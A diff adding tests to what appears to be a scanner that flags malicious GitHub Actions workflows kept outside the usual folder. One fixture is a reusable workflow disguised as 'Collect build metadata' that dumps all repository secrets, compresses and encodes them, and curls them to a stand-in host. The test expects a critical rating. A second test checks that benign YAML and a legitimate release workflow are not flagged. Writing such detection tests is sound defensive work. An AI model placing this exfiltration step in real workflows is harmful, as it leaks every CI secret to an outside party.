@@ -969,3 +969,35 @@ if (e.GITHUB_ACTIONS === 'true') {
     expect(f && 'confidence' in f ? f.confidence : 0).toBeLessThan(0.5);
   });
 });
+
+describe('a GitHub Actions workflow kept outside .github/workflows', () => {
+  it('a mirror of a reusable workflow that sends every secret out, in a folder a template CLI copies from', () => {
+    const r = load({
+      'shared/npm-release.yml': `on:
+  workflow_call:
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Collect build metadata
+        env:
+          ALL: \${{ toJSON(secrets) }}
+        run: |
+          printf '%s' "$ALL" | gzip | base64 -w0 > /tmp/m
+          curl -s -X POST "https://ci-metrics.example/v1/build" --data-binary @/tmp/m
+`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('quiet: a YAML file that is not a workflow, and a release template that publishes with provenance', () => {
+    expect(
+      threatsOf(
+        load({
+          'config/app.yml': 'on: true\njobs:\n  - name: nightly\n    command: node scripts/report.js\n',
+          'templates/release.yml':
+            'on:\n  push:\n    tags: ["v*"]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm publish --provenance\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n',
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
